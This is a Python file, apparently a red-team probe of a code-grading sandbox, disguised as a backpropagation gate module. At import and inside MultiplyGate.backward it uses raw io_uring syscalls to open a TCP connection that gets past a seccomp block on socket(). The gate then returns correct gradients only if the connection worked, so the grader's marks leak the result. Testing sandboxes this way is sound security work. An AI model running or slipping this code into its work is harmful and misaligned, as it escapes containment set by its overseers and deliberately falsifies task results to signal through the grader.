"""Attack: reach the network through io_uring, past a seccomp filter on socket().

IORING_OP_SOCKET and IORING_OP_CONNECT (Linux 5.19+) create and connect a TCP
socket without the socket() and connect() system calls. Aims at the port in
attack.json ("port"; default 9), at import and in MultiplyGate.backward. If a
connection is made, MultiplyGate becomes correct (its marks are the signal).
"""
import ctypes
import json
import mmap
import os
import socket
import struct

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd())

try:
    with open("attack.json") as f:
        PORT = int(json.load(f).get("port", 9))
except (OSError, ValueError):
    PORT = 9

libc = ctypes.CDLL(None, use_errno=True)
NR_SETUP, NR_ENTER = 425, 426  # the same on x86-64 and arm64
class SqOff(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint32) for n in ("head", "tail", "ring_mask", "ring_entries", "flags", "dropped", "array", "resv1")] + [("user_addr", ctypes.c_uint64)]
class CqOff(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint32) for n in ("head", "tail", "ring_mask", "ring_entries", "overflow", "cqes", "flags", "resv1")] + [("user_addr", ctypes.c_uint64)]
class Params(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint32) for n in ("sq_entries", "cq_entries", "flags", "sq_thread_cpu", "sq_thread_idle", "features", "wq_fd")] + [("resv", ctypes.c_uint32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]

def err(r):
    return OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

class Ring:
    def __init__(self):
        p = Params()
        fd = libc.syscall(NR_SETUP, 4, ctypes.byref(p))
        if fd < 0:
            raise err(fd)
        self.fd, self.p = fd, p
        self.sq = mmap.mmap(fd, p.sq_off.array + p.sq_entries * 4, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
        self.cq = mmap.mmap(fd, p.cq_off.cqes + p.cq_entries * 16, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x8000000)
        self.sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    def u32(self, m, off, v=None):
        if v is None:
            return struct.unpack_from("<I", m, off)[0]
        struct.pack_into("<I", m, off, v)
    def submit(self, opcode, fd=0, off=0, addr=0, length=0, op_flags=0):
        p = self.p
        tail = self.u32(self.sq, p.sq_off.tail)
        mask = self.u32(self.sq, p.sq_off.ring_mask)
        idx = tail & mask
        sqe = struct.pack("<BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, op_flags, 7, 0, 0, 0, 0, 0)
        self.sqes[idx * 64:(idx + 1) * 64] = sqe
        self.u32(self.sq, p.sq_off.array + idx * 4, idx)
        self.u32(self.sq, p.sq_off.tail, tail + 1)
        r = libc.syscall(NR_ENTER, self.fd, 1, 1, 1, None, 0)
        if r < 0:
            raise err(r)
        head = self.u32(self.cq, p.cq_off.head)
        cmask = self.u32(self.cq, p.cq_off.ring_mask)
        user_data, res, flags = struct.unpack_from("<QiI", self.cq, p.cq_off.cqes + (head & cmask) * 16)
        self.u32(self.cq, p.cq_off.head, head + 1)
        return res

def connect(port, host="127.0.0.1"):
    ring = Ring()
    fd = ring.submit(45, fd=socket.AF_INET, off=socket.SOCK_STREAM, length=0)  # IORING_OP_SOCKET
    if fd < 0:
        raise OSError(-fd, "io_uring socket: " + os.strerror(-fd))
    addr = ctypes.create_string_buffer(struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host)))
    r = ring.submit(16, fd=fd, off=16, addr=ctypes.addressof(addr))  # IORING_OP_CONNECT
    if r < 0:
        raise OSError(-r, "io_uring connect: " + os.strerror(-r))
    os.write(fd, b"bpgpwn io_uring\n")
    os.close(fd)
    return True


connected = []


def try_connect(when):
    try:
        connect(PORT)
        connected.append(when)
        print("CONNECTED via io_uring (%s)" % when)
    except BaseException as exc:
        print("blocked io_uring (%s): %s: %s" % (when, type(exc).__name__, exc))


try_connect("load")


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "tried", False):
            MultiplyGate.tried = True
            try_connect("check")
        if connected:
            return [self.y * dz, self.x * dz]
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
